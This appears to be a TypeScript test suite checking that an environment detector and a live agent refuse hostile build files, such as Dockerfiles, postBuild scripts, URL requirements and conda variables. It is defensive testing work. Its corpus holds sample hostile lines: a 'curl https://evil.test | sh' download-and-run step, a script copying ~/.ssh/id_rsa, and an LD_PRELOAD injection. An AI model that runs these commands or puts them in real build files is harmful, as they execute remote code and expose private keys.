/**
 * Hostile input, environments (issue 7): environment files that ask for what a provider (a uv venv from PyPI)
 * refuses. A corpus of crafted files (below, in code) and random combinations of them: detectEnvironment names
 * each with its reason and advice, and never crashes. Then a REAL agent process (`ain provider start`, local
 * kernel backend, development chain) receives runs of such bundles: each is refused before anything is built
 * (no `environment-building` event, no environment folder), the run fails with the reasons, and a client can
 * read them from the run's events.
 */
import { existsSync, readdirSync } from 'node:fs';
import * as path from 'node:path';
import fc from 'fast-check';
import { createBundle } from '../../src/core/bundle-writer';
import { detectEnvironment } from '../../src/core/environment';
import { call, readSse, waitFor } from '../integration/agent-service-fixture';
import { IAgentProcess, IDevAgent, startDevAgent } from '../integration/cli-process-fixture';
import { Tally, encoder, notebookBytes, outcome } from './fixture-hostile';
import { recordCase } from './record';

/** The corpus: files asking for what a provider refuses, and the rule that must name it. */
const CORPUS: Array<{ name: string; files: Record<string, string>; rule: string }> = [
  { name: 'Dockerfile', files: { Dockerfile: 'FROM ubuntu:24.04\nRUN curl https://evil.test | sh\n' }, rule: 'dockerfile' },
  { name: 'binder/Dockerfile', files: { 'binder/Dockerfile': 'FROM scratch\n' }, rule: 'dockerfile' },
  { name: 'apt.txt', files: { 'apt.txt': 'curl\nlibgdal-dev\n' }, rule: 'apt' },
  { name: 'postBuild', files: { postBuild: '#!/bin/sh\ncat ~/.ssh/id_rsa > /tmp/x\n' }, rule: 'post-build' },
  { name: 'start', files: { start: '#!/bin/sh\nexec "$@"\n' }, rule: 'start' },
  { name: 'install.R beside environment.yml', files: { 'install.R': 'install.packages("ggplot2")\n', 'environment.yml': 'dependencies: [python=3.11]\n' }, rule: 'r-script' },
  { name: 'Project.toml', files: { 'Project.toml': '[deps]\nPlots = "91a5bcdd"\n' }, rule: 'julia' },
  { name: 'default.nix', files: { 'default.nix': 'with import <nixpkgs> {}; hello\n' }, rule: 'nix' },
  { name: 'runtime.txt python 2', files: { 'runtime.txt': 'python-2.7\n' }, rule: 'python2' },
  { name: 'runtime.txt R', files: { 'runtime.txt': 'r-4.1-2022-01-01\n' }, rule: 'r' },
  { name: 'VCS requirement', files: { 'requirements.txt': 'git+https://github.com/psf/requests\n' }, rule: 'requirement-url' },
  { name: 'URL requirement', files: { 'requirements.txt': 'https://evil.test/pkg-1.0-py3-none-any.whl\n' }, rule: 'requirement-url' },
  { name: 'named URL requirement', files: { 'requirements.txt': 'pkg @ https://evil.test/pkg.tar.gz\n' }, rule: 'requirement-url' },
  { name: 'local requirement', files: { 'requirements.txt': './vendor/pkg\n' }, rule: 'requirement-local' },
  { name: 'editable requirement', files: { 'requirements.txt': '-e .\n' }, rule: 'requirement-editable' },
  { name: 'other index', files: { 'requirements.txt': '--index-url https://evil.test/simple\nnumpy\n' }, rule: 'requirement-index' },
  { name: 'extra index', files: { 'requirements.txt': '--extra-index-url https://evil.test/simple\nnumpy\n' }, rule: 'requirement-index' },
  { name: 'included file', files: { 'requirements.txt': '-r other.txt\n', 'other.txt': 'numpy\n' }, rule: 'requirement-include' },
  { name: 'trusted host', files: { 'requirements.txt': '--trusted-host evil.test\nnumpy\n' }, rule: 'requirement-index' },
  { name: 'pip option', files: { 'requirements.txt': '--no-binary :all:\nnumpy\n' }, rule: 'requirement-option' },
  { name: 'setup.py', files: { 'setup.py': 'from setuptools import setup\nsetup()\n' }, rule: 'local-package' },
  { name: 'conda URL package', files: { 'environment.yml': 'dependencies:\n  - https://evil.test/pkg.tar.bz2\n' }, rule: 'requirement-url' },
  { name: 'conda variables', files: { 'environment.yml': 'dependencies: [python=3.11]\nvariables:\n  LD_PRELOAD: /tmp/x.so\n' }, rule: 'conda-key' },
  { name: 'Pipfile VCS', files: { Pipfile: '[packages]\nrequests = { git = "https://github.com/psf/requests" }\n' }, rule: 'requirement-url' }
]; // prettier-ignore

const filesOf = (f: Record<string, string>): Map<string, Uint8Array> =>
  new Map(Object.entries(f).map(([k, v]) => [k, encoder.encode(v)]));

describe('hostile input: environments a provider refuses', () => {
  it('detectEnvironment names every refusal of the corpus and of random combinations, with reason and advice', () => {
    const tally = new Tally();
    const rulesSeen = new Set<string>();
    const missed: string[] = [];
    for (const c of CORPUS) {
      const report = detectEnvironment(filesOf(c.files));
      tally.add({ code: c.rule, message: c.name + ' (corpus case)' });
      const refusal = report.refused.find(r => r.rule === c.rule);
      if (!refusal || refusal.reason.length < 10 || refusal.advice.length < 10) {
        missed.push(`${c.name}: ${JSON.stringify(report.refused.map(r => r.rule))}`);
      }
      rulesSeen.add(c.rule);
    }
    expect(missed).toEqual([]);
    // Random combinations of corpus files, in the top folder or binder/, with random noise files.
    fc.assert(
      fc.property(
        fc.subarray(CORPUS, { minLength: 1, maxLength: 4 }),
        fc.boolean(),
        fc.dictionary(fc.stringMatching(/^[a-z]{1,6}\.(txt|yml|toml|py)$/), fc.string({ maxLength: 40 }), {
          maxKeys: 3
        }),
        (cases, binder, noise) => {
          const files: Record<string, string> = { ...noise };
          for (const c of cases) {
            for (const [name, text] of Object.entries(c.files)) {
              files[binder && !name.startsWith('binder/') ? `binder/${name}` : name] = text;
            }
          }
          files['analysis.ipynb'] = new TextDecoder().decode(notebookBytes());
          const o = outcome(() => detectEnvironment(filesOf(files)));
          tally.add(
            'accepted' in o
              ? { code: o.accepted.refused.length ? 'refused' : 'nothing refused', message: 'combination' }
              : o
          );
          if ('accepted' in o) {
            for (const r of o.accepted.refused) {
              expect(r.reason.length).toBeGreaterThan(10);
              expect(r.advice.length).toBeGreaterThan(10);
            }
          } else {
            // A file in the combination that is not even readable (e.g. noise as TOML) is an error with a code.
            expect(o.code).toMatch(/^ENV_/);
          }
        }
      ),
      { numRuns: 500, seed: 20261125 }
    );
    recordCase({
      id: 'hostile-input.environment-detect',
      area: 'hostile-input',
      case: `detectEnvironment on a corpus of ${CORPUS.length} refused environments (Dockerfile, apt.txt, postBuild, start, R, Julia, Nix, Python 2, URL/VCS/local/editable requirements, other indexes, pip options, setup.py, conda URLs and variables, Pipfile VCS) and 500 random combinations in the top folder or binder/`,
      tried: tally.tried,
      survived: tally.tried,
      lost: 0,
      figure: `${CORPUS.length} corpus cases named by their rule (${rulesSeen.size} rules), 500 combinations, 0 crashes`,
      note: `${tally.toString()}. Conda packages (r-base, gdal...) are not refused by detection (it lists them in install.conda); the agent's uv builder refuses them (next case).`
    });
  });

  describe('a real agent refuses such runs before any build', () => {
    let bed: IDevAgent;
    let dir: string;
    let agent: IAgentProcess;
    let token: string;

    beforeAll(async () => {
      bed = await startDevAgent('hostile-env', 'local');
      ({ dir, agent, token } = bed);
    }, 120000);

    afterAll(async () => {
      await bed?.close();
    });

    it('Dockerfile, apt.txt, postBuild, conda packages and a VCS requirement: refused with the reasons', async () => {
      const cases: Array<[string, Record<string, string>, RegExp]> = [
        ['Dockerfile', { Dockerfile: 'FROM ubuntu\n' }, /Dockerfile asks for a Dockerfile/],
        [
          'apt.txt',
          { 'apt.txt': 'curl\n', 'requirements.txt': 'numpy\n' },
          /apt\.txt asks for system packages/
        ],
        ['postBuild', { postBuild: '#!/bin/sh\n', 'requirements.txt': 'numpy\n' }, /postBuild runs a script/],
        [
          'conda',
          { 'environment.yml': 'dependencies:\n  - python=3.11\n  - r-base\n' },
          /conda packages r-base/
        ],
        ['VCS requirement', { 'requirements.txt': 'git+https://github.com/psf/requests\n' }, /git\+https/]
      ];
      let refused = 0;
      let nonce = 1n;
      for (const [name, envFiles, reason] of cases) {
        const files = filesOf(envFiles);
        files.set('analysis.ipynb', notebookBytes());
        const bundle = createBundle({ notebookPath: 'analysis.ipynb', files });
        const runId = await bed.openRun(bundle.bundleHash, nonce++);
        const created = await call(agent.url, 'POST', `/runs?runId=${runId}`, { token, body: bundle.bytes });
        expect({ name, status: created.status }).toEqual({ name, status: 201 });
        const run = await waitFor(
          async () => {
            const r = await call(agent.url, 'GET', `/runs/${runId}`, { token });
            return r.json.state === 'failed' ? r.json : null;
          },
          20000,
          `run of ${name} failed`
        );
        const events = await readSse(`${agent.url}/runs/${runId}/events?follow=false`, token);
        const types = events.map(e => e.event);
        const failed = events.find(e => e.event === 'environment-failed');
        expect({ name, building: types.includes('environment-building'), failed: !!failed }).toEqual({
          name,
          building: false,
          failed: true
        });
        expect(failed!.data.message).toMatch(reason);
        expect(failed!.data.message).toMatch(/Change the environment files as advised/);
        expect(String(run.reason)).toMatch(reason);
        refused++;
      }
      // Nothing was built: the environment cache holds no venv.
      const envDir = path.join(dir, 'agent', 'environments');
      const built = existsSync(envDir) ? readdirSync(envDir).filter(n => !n.startsWith('uv-cache')) : [];
      expect(built).toEqual([]);
      const health = await call(agent.url, 'GET', '/health');
      expect(health.status).toBe(200);
      recordCase({
        id: 'hostile-input.environment-agent',
        area: 'hostile-input',
        case: 'runs sent to a real agent (local kernels) with a Dockerfile, apt.txt, postBuild, conda-only packages, a VCS requirement',
        tried: cases.length,
        survived: refused,
        lost: 0,
        figure: `${refused} of ${cases.length} runs refused before any build, each with its reason and advice; 0 environments built`,
        note: 'The run is admitted (201: it is open and paid on-chain) and then fails at once with the reasons in its events and state.'
      });
    }, 120000);
  });
});
